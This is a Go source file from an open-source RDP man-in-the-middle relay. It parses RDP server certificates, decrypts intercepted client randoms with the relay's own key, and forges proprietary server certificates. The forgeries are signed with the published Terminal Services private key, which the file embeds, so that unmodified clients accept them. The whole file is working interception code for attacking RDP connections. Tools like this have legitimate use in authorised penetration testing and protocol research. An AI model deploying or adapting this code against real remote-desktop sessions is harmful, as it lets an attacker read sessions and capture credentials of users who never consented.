// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package rdp

import (
	"bytes"
	"crypto/md5"
	"crypto/rsa"
	"encoding/binary"
	"fmt"
	"math/big"

	"github.com/jcmturner/gofork/encoding/asn1"
	"github.com/zmap/zcrypto/x509"

	"github.com/x-stp/rdp-mitm-go/pkg/rdp/codec"
)

// Server certificate versions (MS-RDPBCGR 2.2.1.4.3.1).
const (
	CERT_CHAIN_VERSION_1     = 0x00000001
	CERT_CHAIN_VERSION_2     = 0x00000002
	CERT_CHAIN_VERSION_MASK  = 0x7FFFFFFF
	CERT_TEMPORARY           = 0x80000000
	SIGNATURE_ALG_RSA        = 0x00000001
	KEY_EXCHANGE_ALG_RSA     = 0x00000001
	BB_RSA_KEY_BLOB          = 0x0006
	BB_RSA_SIGNATURE_BLOB    = 0x0008
	rsaMagic                 = 0x31415352 // "RSA1"
	proprietarySignatureSize = 64
)

// Terminal Services signing key published in MS-RDPBCGR 5.3.3.1.1.
// Little-endian byte order.
var (
	tsskModulus = []byte{
		0x3d, 0x3a, 0x5e, 0xbd, 0x72, 0x43, 0x3e, 0xc9, 0x4d, 0xbb, 0xc1, 0x1e, 0x4a, 0xba, 0x5f, 0xcb,
		0x3e, 0x88, 0x20, 0x87, 0xef, 0xf5, 0xc1, 0xe2, 0xd7, 0xb7, 0x6b, 0x9a, 0xf2, 0x52, 0x45, 0x95,
		0xce, 0x63, 0x65, 0x6b, 0x58, 0x3a, 0xfe, 0xef, 0x7c, 0xe7, 0xbf, 0xfe, 0x3d, 0xf6, 0x5c, 0x7d,
		0x6c, 0x5e, 0x06, 0x09, 0x1a, 0xf5, 0x61, 0xbb, 0x20, 0x93, 0x09, 0x5f, 0x05, 0x6d, 0xea, 0x87,
	}
	tsskPrivateExponent = []byte{
		0x87, 0xa7, 0x19, 0x32, 0xda, 0x11, 0x87, 0x55, 0x58, 0x00, 0x16, 0x16, 0x25, 0x65, 0x68, 0xf8,
		0x24, 0x3e, 0xe6, 0xfa, 0xe9, 0x67, 0x49, 0x94, 0xcf, 0x92, 0xcc, 0x33, 0x99, 0xe8, 0x08, 0x60,
		0x17, 0x9a, 0x12, 0x9f, 0x24, 0xdd, 0xb1, 0x24, 0x99, 0xc7, 0x3a, 0xb8, 0x0a, 0x7b, 0x0d, 0xdd,
		0x35, 0x07, 0x79, 0x17, 0x0b, 0x51, 0x9b, 0xb3, 0xc7, 0x10, 0x01, 0x13, 0xe7, 0x3f, 0xf3, 0x5f,
	}
)

// leToInt interprets b as a little-endian unsigned integer.
func leToInt(b []byte) *big.Int {
	be := make([]byte, len(b))
	for i := range b {
		be[len(b)-1-i] = b[i]
	}
	return new(big.Int).SetBytes(be)
}

// intToLE writes v as a little-endian integer of exactly size bytes.
func intToLE(v *big.Int, size int) []byte {
	be := v.FillBytes(make([]byte, size))
	le := make([]byte, size)
	for i := range be {
		le[size-1-i] = be[i]
	}
	return le
}

// rawRSA computes m^exp mod n on little-endian operands.
func rawRSA(data []byte, exp, n *big.Int) []byte {
	m := leToInt(data)
	c := new(big.Int).Exp(m, exp, n)
	return intToLE(c, (n.BitLen()+7)/8)
}

// EncryptClientRandom encrypts the client random the way RDP clients do:
// unpadded RSA on little-endian integers, followed by 8 zero bytes.
func EncryptClientRandom(pub *rsa.PublicKey, random []byte) []byte {
	out := rawRSA(random, big.NewInt(int64(pub.E)), pub.N)
	return append(out, make([]byte, 8)...)
}

// DecryptClientRandom recovers the 32-byte client random from a Security
// Exchange PDU encrypted with the relay's public key.
func DecryptClientRandom(priv *rsa.PrivateKey, encrypted []byte) ([]byte, error) {
	size := (priv.N.BitLen() + 7) / 8
	if len(encrypted) < size {
		return nil, fmt.Errorf("%w: encrypted client random of %d bytes for a %d byte modulus", codec.ErrMalformed, len(encrypted), size)
	}
	plain := rawRSA(encrypted[:size], priv.D, priv.N)
	return plain[:32], nil
}

// ServerCertificate is the parsed serverCertificate field of SC_SECURITY.
type ServerCertificate struct {
	Version   uint32
	PublicKey *rsa.PublicKey
	Leaf      *x509.Certificate // set for X.509 chains
	Raw       []byte
}

// Proprietary reports whether the certificate uses the proprietary format.
func (c *ServerCertificate) Proprietary() bool {
	return c.Version&CERT_CHAIN_VERSION_MASK == CERT_CHAIN_VERSION_1
}

// ParseServerCertificate extracts the server RSA public key from either a
// proprietary certificate or an X.509 chain whose last entry is the leaf.
func ParseServerCertificate(data []byte) (*ServerCertificate, error) {
	r := codec.NewReader(data)
	version, err := r.Uint32LE()
	if err != nil {
		return nil, err
	}
	cert := &ServerCertificate{Version: version, Raw: data}

	switch version & CERT_CHAIN_VERSION_MASK {
	case CERT_CHAIN_VERSION_1:
		cert.PublicKey, err = parseProprietaryKey(r)
	case CERT_CHAIN_VERSION_2:
		cert.Leaf, cert.PublicKey, err = parseX509Chain(r)
	default:
		err = fmt.Errorf("%w: server certificate version 0x%08X", codec.ErrMalformed, version)
	}
	if err != nil {
		return nil, err
	}
	return cert, nil
}

func parseProprietaryKey(r *codec.Reader) (*rsa.PublicKey, error) {
	if err := r.Skip(8); err != nil { // dwSigAlgId, dwKeyAlgId
		return nil, err
	}
	blobType, err := r.Uint16LE()
	if err != nil {
		return nil, err
	}
	if blobType != BB_RSA_KEY_BLOB {
		return nil, fmt.Errorf("%w: public key blob type 0x%04X", codec.ErrMalformed, blobType)
	}
	blobLen, err := r.Uint16LE()
	if err != nil {
		return nil, err
	}
	blob, err := r.Bytes(int(blobLen))
	if err != nil {
		return nil, err
	}

	br := codec.NewReader(blob)
	magic, _ := br.Uint32LE()
	keyLen, _ := br.Uint32LE()
	if err := br.Skip(8); err != nil { // bitlen, datalen
		return nil, err
	}
	exp, err := br.Uint32LE()
	if err != nil {
		return nil, err
	}
	if magic != rsaMagic {
		return nil, fmt.Errorf("%w: RSA key magic 0x%08X", codec.ErrMalformed, magic)
	}
	if keyLen < 8 {
		return nil, fmt.Errorf("%w: RSA key length %d", codec.ErrMalformed, keyLen)
	}
	modulus, err := br.Bytes(int(keyLen))
	if err != nil {
		return nil, err
	}
	return &rsa.PublicKey{N: leToInt(modulus[:keyLen-8]), E: int(exp)}, nil
}

func parseX509Chain(r *codec.Reader) (*x509.Certificate, *rsa.PublicKey, error) {
	count, err := r.Uint32LE()
	if err != nil {
		return nil, nil, err
	}
	if count == 0 {
		return nil, nil, fmt.Errorf("%w: empty certificate chain", codec.ErrMalformed)
	}
	var leafDER []byte
	for i := uint32(0); i < count; i++ {
		n, err := r.Uint32LE()
		if err != nil {
			return nil, nil, err
		}
		if leafDER, err = r.Bytes(int(n)); err != nil {
			return nil, nil, fmt.Errorf("certificate %d: %w", i, err)
		}
	}

	leaf, err := x509.ParseCertificate(leafDER)
	if err != nil {
		return nil, nil, fmt.Errorf("failed to parse server certificate: %w", err)
	}
	if pub, ok := leaf.PublicKey.(*rsa.PublicKey); ok {
		return leaf, pub, nil
	}
	pub, err := parseRSASubjectPublicKeyInfo(leaf.RawSubjectPublicKeyInfo)
	return leaf, pub, err
}

// Terminal server certificates frequently label their RSA key with a
// signature OID, which x509 does not map to a public key type.
func parseRSASubjectPublicKeyInfo(spki []byte) (*rsa.PublicKey, error) {
	var info struct {
		Algorithm struct {
			Algorithm  asn1.ObjectIdentifier
			Parameters asn1.RawValue `asn1:"optional"`
		}
		PublicKey asn1.BitString
	}
	if _, err := asn1.Unmarshal(spki, &info); err != nil {
		return nil, fmt.Errorf("failed to parse subject public key info: %w", err)
	}
	var key struct {
		N *big.Int
		E int
	}
	if _, err := asn1.Unmarshal(info.PublicKey.RightAlign(), &key); err != nil {
		return nil, fmt.Errorf("failed to parse RSA public key: %w", err)
	}
	return &rsa.PublicKey{N: key.N, E: key.E}, nil
}

// NewProprietaryCertificate builds a proprietary server certificate for pub,
// signed with the Terminal Services signing key so unmodified clients accept it.
func NewProprietaryCertificate(pub *rsa.PublicKey) []byte {
	modulusLen := (pub.N.BitLen() + 7) / 8
	keyLen := modulusLen + 8

	var blob bytes.Buffer
	binary.Write(&blob, binary.LittleEndian, uint32(rsaMagic))
	binary.Write(&blob, binary.LittleEndian, uint32(keyLen))
	binary.Write(&blob, binary.LittleEndian, uint32(modulusLen*8))
	binary.Write(&blob, binary.LittleEndian, uint32(modulusLen-1))
	binary.Write(&blob, binary.LittleEndian, uint32(pub.E))
	blob.Write(intToLE(pub.N, modulusLen))
	blob.Write(make([]byte, 8))

	var buf bytes.Buffer
	binary.Write(&buf, binary.LittleEndian, uint32(CERT_CHAIN_VERSION_1))
	binary.Write(&buf, binary.LittleEndian, uint32(SIGNATURE_ALG_RSA))
	binary.Write(&buf, binary.LittleEndian, uint32(KEY_EXCHANGE_ALG_RSA))
	binary.Write(&buf, binary.LittleEndian, uint16(BB_RSA_KEY_BLOB))
	binary.Write(&buf, binary.LittleEndian, uint16(blob.Len()))
	buf.Write(blob.Bytes())

	signature := signProprietary(buf.Bytes())
	binary.Write(&buf, binary.LittleEndian, uint16(BB_RSA_SIGNATURE_BLOB))
	binary.Write(&buf, binary.LittleEndian, uint16(len(signature)))
	buf.Write(signature)
	return buf.Bytes()
}

// signProprietary implements MS-RDPBCGR 5.3.3.1.2.
func signProprietary(signed []byte) []byte {
	hash := md5.Sum(signed)
	block := make([]byte, proprietarySignatureSize)
	copy(block, hash[:])
	block[16] = 0x00
	for i := 17; i < 62; i++ {
		block[i] = 0xFF
	}
	block[62] = 0x01

	n := leToInt(tsskModulus)
	sig := rawRSA(block, leToInt(tsskPrivateExponent), n)
	return append(sig, make([]byte, 8)...)
}
